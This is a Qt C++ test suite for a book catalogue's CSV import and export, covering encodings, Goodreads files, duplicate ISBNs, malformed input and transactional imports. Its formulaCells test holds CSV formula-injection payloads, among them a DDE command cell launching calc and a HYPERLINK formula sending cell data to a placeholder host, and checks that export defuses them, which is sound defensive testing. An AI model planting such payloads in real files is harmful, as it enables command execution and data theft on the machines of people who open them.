#include "data/test_recordset_fixture.h"

#include "catalogue/CatalogueCsv.h"
#include "data/Sql.h"

#include <QStringEncoder>

using namespace Qt::StringLiterals;

class TestCsv : public QObject
{
    Q_OBJECT
private slots:
    void roundTrip();
    void goodreads();
    void gb18030();
    void badFiles_data();
    void badFiles();
    void previewCountsWhatItSkips();
    void allOrNothing();
    void sameBookByIsbn();
    void statusesAndCategories();
    void formulaCells();
    void throughLibreOffice();
    void nulCharactersAreDropped();
};

static QByteArray readAll(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

static void writeFile(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    file.write(bytes);
}

static QString books(LibraryFixture& f)
{
    return f.count(u"select count(*) from baseshu"_s);
}

void TestCsv::roundTrip()
{
    LibraryFixture f;
    const qint64 odd = f.category(u"O'Neil, \"诗\""_s);
    RecordSet set(f.db());
    set.setSql(u"select * from baseshu"_s);
    set.open();
    // column, value, column, value, ...
    const QList<QStringList> rows {
        { u"name"_s, u"红楼梦"_s, u"zuozhe"_s, u"曹雪芹"_s, u"isbn"_s, u"978-7-02-000220-7"_s, u"yuzhong"_s, u"中文"_s,
            u"contentjj"_s, u"第一行\r\n第二行, \"引号\"\n第三行"_s, u"目录"_s, u"第一回\n第二回"_s },
        { u"name"_s, u"He said \"hi\", then left"_s, u"readbiji"_s, u",,,"_s, u"isread"_s, u"已读完"_s },
        { u"name"_s, u"  空白  "_s, u"isjie"_s, u"是"_s, u"jieshumen"_s, u"\""_s, u"isread"_s, u"正在读"_s },
    };
    for (const QStringList& row : rows) {
        set.append();
        for (int i = 0; i + 1 < row.size(); i += 2)
            set.setText(row[i], row[i + 1]);
        set.post();
    }
    f.db().execute(u"update baseshu set leibie = %1, isread = '还没读' where name = '红楼梦'"_s.arg(odd));
    f.db().execute(u"update baseshu set leibie = %1 where leibie is null"_s.arg(f.category(u"未分类"_s)));

    const QString first = f.dir.filePath(u"first.csv"_s);
    QCOMPARE(CatalogueCsv::exportTo(f.db(), first), 3);
    const QByteArray bytes = readAll(first);
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF书名,作者,出版社,ISBN,语种,类别,包装,存放地点,阅读状态,是否借人,借书人,"
                             "是否出屋,出屋原因,内容简介,目录,读书笔记,入库日期,开始阅读,读完日期,借出日期,归还期限,借阅记录\r\n"));
    QVERIFY(bytes.contains("\"O'Neil, \"\"诗\"\"\""));
    QVERIFY(bytes.contains(",\"=\"\"978-7-02-000220-7\"\"\","));
    QVERIFY(bytes.contains("\"第一行\r\n第二行, \"\"引号\"\"\n第三行\""));
    QVERIFY(bytes.endsWith("\r\n"));

    LibraryFixture empty;
    const CsvImportPlan plan = CatalogueCsv::plan(empty.db(), first);
    QCOMPARE(plan.toAdd, 3);
    QCOMPARE(plan.newCategories, (QStringList { u"O'Neil, \"诗\""_s, u"未分类"_s }));
    QCOMPARE(plan.rejectedCount + plan.duplicates + int(plan.ignoredColumns.size()), 0);
    QCOMPARE(CatalogueCsv::apply(empty.db(), plan), 3);
    const QString second = f.dir.filePath(u"second.csv"_s);
    CatalogueCsv::exportTo(empty.db(), second);
    QCOMPARE(readAll(second), bytes);
    QCOMPARE(empty.count(
                 u"select count(*) from baseshu where publish is null and (jieshumen is null or name = '  空白  ')"_s),
        u"3"_s);
    // Read back into the library it came from, every book is already there.
    const CsvImportPlan again = CatalogueCsv::plan(f.db(), first);
    QCOMPARE(again.toAdd, 0);
    QCOMPARE(again.duplicates, 3);
}

void TestCsv::goodreads()
{
    LibraryFixture f;
    f.category(u"Classics"_s);
    const QString path = f.dir.filePath(u"goodreads_library_export.csv"_s);
    writeFile(path,
        "Book Id,Title,Author,Author l-f,Additional Authors,ISBN,ISBN13,My Rating,Average Rating,Publisher,Binding,"
        "Number of Pages,Year Published,Original Publication Year,Date Read,Date Added,Bookshelves,"
        "Bookshelves with positions,Exclusive Shelf,My Review,Spoiler,Private Notes,Read Count,Owned Copies\n"
        "2657,To Kill a Mockingbird,Harper Lee,\"Lee, Harper\",,\"=\"\"0060935464\"\"\",\"=\"\"9780060935467\"\"\","
        "5,4.27,Harper Perennial Modern Classics,Paperback,324,2006,1960,2020/01/05,2019/12/01,"
        "\"favorites, classics\",\"favorites (#2), classics (#1)\",read,"
        "\"Great, \"\"truly\"\".\",,Lent to Ann,1,0\n"
        "11588,The Shining,Stephen King,\"King, Stephen\",,\"=\"\"\"\"\",\"=\"\"9780450040184\"\"\",0,4.26,"
        "New English Library,Paperback,497,1980,1977,,2021/03/02,to-read,to-read (#1),to-read,,,,0,0\n"
        "5107,三体,刘慈欣,\"刘, 慈欣\",,\"=\"\"\"\"\",\"=\"\"\"\"\",0,4.1,重庆出版社,平装,302,2008,2008,,"
        "2022/01/01,currently-reading,currently-reading (#1),currently-reading,,,第二遍,0,0\n");
    const CsvImportPlan plan = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(plan.layout, CsvImportPlan::Layout::Goodreads);
    QCOMPARE(plan.toAdd, 3);
    QCOMPARE(plan.newCategories, QStringList { u"未分类"_s });
    QVERIFY(plan.ignoredColumns.contains(u"My Rating"_s) && !plan.ignoredColumns.contains(u"ISBN13"_s));
    QVERIFY(!plan.ignoredColumns.contains(u"Private Notes"_s) && !plan.ignoredColumns.contains(u"Bookshelves"_s));
    QVERIFY(CatalogueCsv::previewText(plan).contains(u"Goodreads"_s));
    QCOMPARE(CatalogueCsv::apply(f.db(), plan), 3);

    RecordSet set(f.db());
    set.setSql(u"select b.*, t.leib from baseshu b join tblei t on t.id = b.leibie order by b.id"_s);
    set.open();
    const QList<QStringList> expected {
        { u"To Kill a Mockingbird"_s, u"Harper Lee"_s, u"Harper Perennial Modern Classics"_s, u"9780060935467"_s,
            u"Paperback"_s, u"已读完"_s, u"Great, \"truly\".\n\n【私人笔记】\nLent to Ann"_s, u"Classics"_s },
        { u"The Shining"_s, u"Stephen King"_s, u"New English Library"_s, u"9780450040184"_s, u"Paperback"_s,
            u"还没读"_s, QString(), u"未分类"_s },
        { u"三体"_s, u"刘慈欣"_s, u"重庆出版社"_s, QString(), u"平装"_s, u"正在读"_s, u"【私人笔记】\n第二遍"_s,
            u"未分类"_s },
    };
    for (const QStringList& book : expected) {
        QStringList got;
        for (const char* column : { "name", "zuozhe", "publish", "isbn", "boxbz", "isread", "readbiji", "leib" })
            got << set.asText(QString::fromUtf8(column));
        QCOMPARE(got, book);
        set.next();
    }
}

void TestCsv::gb18030()
{
    LibraryFixture f;
    const QString path = f.dir.filePath(u"gbk.csv"_s);
    QStringEncoder gb("GB18030");
    writeFile(path, gb(u"书名,作者,类别\r\n红楼梦,曹雪芹,小说\r\n\"西游记\",吴承恩,小说\r\n"_s));
    const CsvImportPlan plan = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(plan.encoding, u"GB18030"_s);
    QCOMPARE(plan.newCategories, QStringList { u"小说"_s });
    QVERIFY(CatalogueCsv::previewText(plan).contains(u"GB18030 编码"_s));
    QCOMPARE(CatalogueCsv::apply(f.db(), plan), 2);
    QCOMPARE(f.count(u"select count(*) from baseshu b join tblei t on t.id = b.leibie "
                     "where t.leib = '小说' and b.zuozhe in ('曹雪芹', '吴承恩')"_s),
        u"2"_s);
}

void TestCsv::badFiles_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("message");
    QTest::newRow("no title column") << QByteArray("作者,出版社\r\n曹雪芹,人民文学\r\n") << u"没有“书名”列"_s;
    QTest::newRow("empty") << QByteArray("\xEF\xBB\xBF") << u"文件是空的"_s;
    QTest::newRow("quote left open") << QByteArray("书名\r\n\"红楼梦\r\n") << u"第 2 行开始的字段少了结尾的引号"_s;
    QTest::newRow("utf-16") << QByteArray("\xFF\xFE\x66\x4E") << u"UTF-16"_s;
    QTest::newRow("marked utf-8, is not") << QByteArray("\xEF\xBB\xBF书名\r\n\xBA\xEC\r\n") << u"标明是 UTF-8"_s;
    QTest::newRow("neither utf-8 nor gb18030") << QByteArray("书名\r\n\x81\x20\r\n") << u"既不是 UTF-8"_s;
}

void TestCsv::badFiles()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, message);
    LibraryFixture f;
    const QString path = f.dir.filePath(u"bad.csv"_s);
    writeFile(path, bytes);
    try {
        CatalogueCsv::plan(f.db(), path);
        QFAIL("no error");
    } catch (const ECsvError& error) {
        QVERIFY2(QString::fromStdString(error.message()).contains(message), error.what());
    }
}

void TestCsv::previewCountsWhatItSkips()
{
    LibraryFixture f;
    f.db().execute(u"insert into baseshu (name, isbn) values ('红楼梦', '9787020002207')"_s);
    const QString path = f.dir.filePath(u"mixed.csv"_s);
    writeFile(path,
        u"书名,ISBN,作者,页数\n红楼梦 ,978-7-02-000220-7,,\n,123,无名,\n,,,\n西游记,,%1,\n三国演义,,,,多余\n水浒传,,,\n"_s
            .arg(QString(300, u'长'))
            .toUtf8());
    const CsvImportPlan plan = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(plan.toAdd, 1);
    QCOMPARE(plan.duplicates, 1);
    QCOMPARE(plan.rejectedCount, 3);
    QCOMPARE(plan.ignoredColumns, QStringList { u"页数"_s });
    QCOMPARE(CatalogueCsv::previewText(plan),
        u"文件：mixed.csv (青禾书目，UTF-8 编码)\n将导入 1 本图书。\n将新建 1 个类别：未分类。\n"
        "跳过 1 本书库中已有的图书 (ISBN 相同；没有 ISBN 的，书名相同)：\n    《红楼梦》\n"
        "有 3 行无法导入：\n    第 3 行：书名是空的\n    第 5 行：“作者”超过 255 个字符\n"
        "    第 6 行：这一行有 5 个字段，比第一行的列名多\n不导入的列：页数。\n确定要导入吗？"_s);
}

void TestCsv::allOrNothing()
{
    LibraryFixture f;
    const QString path = f.dir.filePath(u"books.csv"_s);
    writeFile(path, u"书名,类别\n红楼梦,新类别\n坏书,新类别\n"_s.toUtf8());
    const QString categories = f.count(u"select count(*) from tblei"_s);

    // A failure half-way through the rows leaves neither books nor categories.
    f.db().execute(u"create trigger refuse before insert on baseshu when new.name = '坏书' "
                   "begin select raise(abort, '拒绝写入'); end"_s);
    const CsvImportPlan plan = CatalogueCsv::plan(f.db(), path);
    QVERIFY_THROWS_EXCEPTION(EDatabaseError, CatalogueCsv::apply(f.db(), plan));
    QCOMPARE(books(f), u"0"_s);
    QCOMPARE(f.count(u"select count(*) from tblei"_s), categories);
    f.db().execute(u"drop trigger refuse"_s);
    QVERIFY_THROWS_EXCEPTION(ECsvCancelled, CatalogueCsv::apply(f.db(), plan, [](qint64, qint64) { return false; }));
    QCOMPARE(books(f), u"0"_s);

    // A file changed after its preview is refused as a whole.
    writeFile(path, u"书名,类别\n红楼梦,新类别\n好书,新类别\n"_s.toUtf8());
    QVERIFY_THROWS_EXCEPTION(ECsvError, CatalogueCsv::apply(f.db(), plan));
    QCOMPARE(books(f), u"0"_s);
    QCOMPARE(CatalogueCsv::apply(f.db(), CatalogueCsv::plan(f.db(), path)), 2);
    QCOMPARE(books(f), u"2"_s);
}

void TestCsv::sameBookByIsbn()
{
    LibraryFixture f;
    f.db().execute(u"insert into baseshu (name, isbn) values ('到灯塔去', '0-15-601219-7'), ('三体', NULL)"_s);
    const QString path = f.dir.filePath(u"isbn.csv"_s);
    // The same ISBN as a spreadsheet left it (leading zero lost), with other
    // hyphens, as its ISBN-13, under another title; the title alone counts only
    // without an ISBN; a 9-digit number that is no ISBN stays as it is.
    writeFile(path,
        u"书名,ISBN\n到灯塔去,156012197\n灯塔,978-0-15-601219-5\nTo the Lighthouse,\"=\"\"0156012197\"\"\"\n"
        "到灯塔去,\n三体,\n三体,9787536692930\n新书,123456780\n"_s.toUtf8());
    const CsvImportPlan plan = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(plan.duplicates, 4);
    QCOMPARE(plan.skipped, (QStringList { u"到灯塔去"_s, u"灯塔"_s, u"To the Lighthouse"_s, u"三体"_s }));
    QCOMPARE(plan.toAdd, 3);
    QCOMPARE(CatalogueCsv::apply(f.db(), plan), 3);
    QCOMPARE(f.count(u"select group_concat(coalesce(isbn, '-'), ' ') from baseshu where id > 2"_s),
        u"- 9787536692930 123456780"_s);

    // Only the first 200 skipped titles are kept; the box shows ten, its details all kept.
    QString many = u"书名,ISBN\n"_s;
    for (int i = 0; i < 250; ++i)
        many += u"第%1本,0156012197\n"_s.arg(i);
    writeFile(path, many.toUtf8());
    const CsvImportPlan lots = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(lots.duplicates, 250);
    QCOMPARE(lots.skipped.size(), CsvImportPlan::maxSkippedListed);
    const QString text = CatalogueCsv::previewText(lots);
    QVERIFY(text.contains(u"《第9本》\n    ……另有 240 本"_s));
    QVERIFY(!text.contains(u"《第10本》"_s));
    const QString details = CatalogueCsv::previewDetails(lots);
    QVERIFY(details.contains(u"《第199本》\n    ……另有 50 本"_s));
}

void TestCsv::statusesAndCategories()
{
    LibraryFixture f;
    const QString path = f.dir.filePath(u"plain.csv"_s);
    writeFile(path, "Title,Author\nA,Ann\n");
    const CsvImportPlan plain = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(plain.layout, CsvImportPlan::Layout::English);
    QVERIFY(!CatalogueCsv::previewText(plain).contains(u"Goodreads"_s));
    CatalogueCsv::apply(f.db(), plain);

    writeFile(path, u"书名,阅读状态\nB,\nC,读完了\nD,在读\nE,读了一半\nF,did-not-finish\n"_s.toUtf8());
    const CsvImportPlan plan = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(plan.toAdd, 3);
    QCOMPARE(plan.rejectedCount, 2);
    QCOMPARE(plan.rejected[0].line, 5);
    QCOMPARE(plan.rejected[0].reason, u"阅读状态“读了一半”不是“还没读”“正在读”“已读完”之一"_s);
    // The catch-all category was made by the first import and is reused.
    QVERIFY(plan.newCategories.isEmpty());
    CatalogueCsv::apply(f.db(), plan);
    QCOMPARE(f.count(u"select group_concat(b.isread || t.leib, ' ') from baseshu b join tblei t on t.id = b.leibie"_s),
        u"还没读未分类 还没读未分类 已读完未分类 正在读未分类"_s);
    QCOMPARE(f.count(u"select count(*) from tblei where leib = '未分类'"_s), u"1"_s);
}

void TestCsv::formulaCells()
{
    LibraryFixture f;
    const qint64 category = f.category(u"=cmd|' /C calc'!A0"_s);
    const QStringList hostile { u"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"_s, u"+1"_s, u"-2"_s, u"@SUM(1)"_s,
        u"'=already marked"_s, u"\t=tab"_s, u"'plain apostrophe"_s };
    for (const QString& text : hostile) {
        const qint64 id = f.addBook(text, u"还没读"_s, category);
        f.db().execute(u"update baseshu set readbiji = %1, isbn = %2 where id = %3"_s.arg(
            Sql::quoted(text), Sql::quoted(u"=1+1\")&HYPERLINK(\"x"_s)).arg(id));
    }
    const QString path = f.dir.filePath(u"hostile.csv"_s);
    CatalogueCsv::exportTo(f.db(), path);
    const QString written = QString::fromUtf8(readAll(path));
    for (const QString& line : written.split(u"\r\n"_s).mid(1, hostile.size())) {
        for (const QString& cell : line.split(u',')) {
            const QString bare = cell.startsWith(u'"') ? cell.mid(1) : cell;
            QVERIFY2(!bare.startsWith(u'=') && !bare.startsWith(u'+') && !bare.startsWith(u'-')
                    && !bare.startsWith(u'@') && !bare.startsWith(u'\t'),
                qPrintable(line));
        }
    }
    QVERIFY(written.contains(u",\"'=1+1\"\")&HYPERLINK(\"\"x\","_s));

    // Read back, every cell is what it was.
    LibraryFixture other;
    CatalogueCsv::apply(other.db(), CatalogueCsv::plan(other.db(), path));
    const QString columns = u"select group_concat(name || '|' || readbiji || '|' || isbn, '/') from baseshu"_s;
    QCOMPARE(other.count(columns), f.count(columns));
    QCOMPARE(other.count(u"select leib from tblei where leib like '=%'"_s), u"=cmd|' /C calc'!A0"_s);
}

// A file written by this program, opened in LibreOffice Calc and saved again as
// CSV (made once with soffice --convert-to, see data/README.md), reads back as
// the library it came from.
void TestCsv::throughLibreOffice()
{
    LibraryFixture f;
    const qint64 novels = f.category(u"小说"_s);
    f.addBook(u"到灯塔去"_s, u"已读完"_s, novels);
    f.addBook(u"-1 度"_s, u"正在读"_s, novels);
    f.addBook(u"“引号”, 逗号"_s, u"还没读"_s, novels);
    f.db().execute(u"update baseshu set isbn = '0156012197', zuozhe = 'Virginia Woolf' where id = 1"_s);
    f.db().execute(u"update baseshu set isbn = '978-7-5321-1111-4', readbiji = '=HYPERLINK(\"http://x\",\"点\")', "
                   "contentjj = '第一行' || char(10) || '第二行' where id = 2"_s);
    const QString ours = f.dir.filePath(u"ours.csv"_s);
    CatalogueCsv::exportTo(f.db(), ours);
    const QString fixtures = QFINDTESTDATA("catalogue/data/libreoffice.csv");
    QVERIFY(!fixtures.isEmpty());

    // Every book is found in the library it came from, the first by its ISBN
    // whether or not the spreadsheet kept the leading zero.
    for (const QString& name : { u"catalogue/data/libreoffice.csv"_s, u"catalogue/data/libreoffice-plain-isbn.csv"_s }) {
        const CsvImportPlan plan = CatalogueCsv::plan(f.db(), QFINDTESTDATA(name));
        QCOMPARE(plan.rejectedCount, 0);
        QCOMPARE(plan.toAdd, 0);
        QCOMPARE(plan.duplicates, 3);
    }
    // And into an empty library, then exported, it is the file this program wrote.
    LibraryFixture empty;
    QCOMPARE(CatalogueCsv::apply(empty.db(), CatalogueCsv::plan(empty.db(), fixtures)), 3);
    const QString back = empty.dir.filePath(u"back.csv"_s);
    CatalogueCsv::exportTo(empty.db(), back);
    QCOMPARE(QString::fromUtf8(readAll(back)), QString::fromUtf8(readAll(ours)));
}

void TestCsv::nulCharactersAreDropped()
{
    LibraryFixture f;
    const QString path = f.dir.filePath(u"nul.csv"_s);
    writeFile(path, u"书名,类别\n"_s.toUtf8() + QByteArray("Dune\0,Sci\0Fi\n", 13));
    const CsvImportPlan plan = CatalogueCsv::plan(f.db(), path);
    QCOMPARE(plan.newCategories, QStringList { u"SciFi"_s });
    QCOMPARE(CatalogueCsv::apply(f.db(), plan), 1);
    QCOMPARE(f.count(u"select count(*) from baseshu where name = 'Dune'"_s), u"1"_s);
    // The category lists like any other.
    RecordSet category(f.db());
    category.setSql(u"select * from tblei where leib="_s + Sql::quoted(u"SciFi"_s));
    category.open();
    QCOMPARE(category.recordCount(), 1);
}

QTEST_GUILESS_MAIN(TestCsv)
#include "test_csv.moc"
